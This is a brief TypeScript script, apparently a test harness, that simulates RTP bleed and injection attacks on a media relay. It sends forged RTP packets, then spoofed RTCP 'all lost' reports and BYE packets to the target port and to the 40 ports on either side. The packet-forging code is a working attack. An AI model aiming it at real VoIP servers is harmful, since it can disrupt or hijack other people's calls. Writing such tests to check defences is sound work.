/** `attacker.ts ADDRESS PORT`: sends what a bleeder and an injector would, from 127.0.0.99, to the RTP port, its RTCP port, and ports around. */
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'

const [address = '127.0.0.1', port = '0'] = process.argv.slice(2)
const rtp = Number(port)
const socket = createSocket('udp4')
socket.bind(0, '127.0.0.99')
await once(socket, 'listening')
const send = (bytes: Buffer, to: number) => new Promise<void>(done => socket.send(bytes, to, address, () => done()))

for (let n = 0; n < 60; n++) {
  const packet = Buffer.alloc(172, 0x55)
  packet[0] = 0x80
  packet[1] = 8
  packet.writeUInt16BE(n, 2)
  packet.writeUInt32BE(n * 160, 4)
  packet.writeUInt32BE(0xdeadbeef, 8)
  await send(packet, rtp)
  await send(receiverReportAndBye(), rtp + 1)
  await sleep(10)
}
for (let near = -40; near <= 40; near++) await send(receiverReportAndBye(), rtp + near)
socket.close()

/** A report that all is lost, and BYE, of the far end's source (which is on every packet that can be seen). */
function receiverReportAndBye(): Buffer {
  const bytes = Buffer.alloc(40)
  bytes.writeUInt32BE(0x81c90007, 0)
  bytes.writeUInt32BE(0x1234abcd, 4)
  bytes.writeUInt32BE(0xff7fffff, 12)
  bytes.writeUInt32BE(0x81cb0001, 32)
  bytes.writeUInt32BE(0x1234abcd, 36)
  return bytes
}
